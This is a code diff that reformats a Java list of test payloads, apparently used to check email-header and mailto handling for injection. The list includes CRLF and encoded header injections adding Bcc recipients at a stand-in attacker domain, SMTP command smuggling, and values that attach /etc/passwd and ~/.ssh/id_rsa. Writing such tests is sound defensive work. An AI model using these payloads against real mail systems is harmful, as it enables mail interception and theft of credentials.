@@ -14,18 +14,21 @@ final class Letters {
     static final List<String> PAYLOADS = List.of(
             "\r\nBcc: mallory@evil.example", "\nBcc: mallory@evil.example", "\rBcc: mallory@evil.example",
             "%0D%0ABcc: mallory@evil.example", "%0ABcc:mallory@evil.example", "&bcc=mallory@evil.example",
-            "?bcc=mallory@evil.example", "&cc=mallory@evil.example&x=", "&attach=/etc/passwd", "&attachment=~/.ssh/id_rsa",
+            "?bcc=mallory@evil.example", "&cc=mallory@evil.example&x=", "&attach=/etc/passwd",
+            "&attachment=~/.ssh/id_rsa",
             ", mallory@evil.example", "; mallory@evil.example", ",mallory@evil.example,", " mallory@evil.example",
             ">\r\nRCPT TO:<mallory@evil.example>", "<mallory@evil.example>", "\"x\" <mallory@evil.example>",
             "group: mallory@evil.example;", "\u0000Bcc: mallory@evil.example", "\u0085Bcc: mallory@evil.example",
             "\u2028Bcc: mallory@evil.example", "\u2029Bcc: mallory@evil.example", "\u000bBcc: mallory@evil.example",
             "\u000cBcc: mallory@evil.example", "\r\n\r\n<script>alert(1)</script>", "\r\n.\r\nMAIL FROM:<a@b>",
-            "\n.\nQUIT", "=?utf-8?Q?=0D=0ABcc:_mallory@evil.example?=", "=?utf-8?B?DQpCY2M6IG1hbGxvcnlAZXZpbC5leGFtcGxl?=",
+            "\n.\nQUIT", "=?utf-8?Q?=0D=0ABcc:_mallory@evil.example?=",
+            "=?utf-8?B?DQpCY2M6IG1hbGxvcnlAZXZpbC5leGFtcGxl?=",
             "100% sure & 50% off", "a+b=c", "#fragment", "tab\tBcc: mallory@evil.example", "\u202Eelpmaxe.live@yrollam",
             "\u2066Bcc: mallory@evil.example\u2069", "Subject: twice", "\r\n Bcc: folded@evil.example",
             "\r\n\tBcc: folded@evil.example", "To: mallory@evil.example\r\n", "\n\n\n", "\r\nContent-Type: text/html",
             "\r\nX-Unsent: 0", "\uD800", "\uFEFF\r\nBcc: mallory@evil.example", "(comment)mallory@evil.example",
-            "mallory@evil.example(", "[127.0.0.1]", "\\\r\\\nBcc: mallory@evil.example", "\r\r\n\nBcc: mallory@evil.example",
+            "mallory@evil.example(", "[127.0.0.1]", "\\\r\\\nBcc: mallory@evil.example",
+            "\r\r\n\nBcc: mallory@evil.example",
             "\u001bBcc: mallory@evil.example");
 
     private Letters() {}
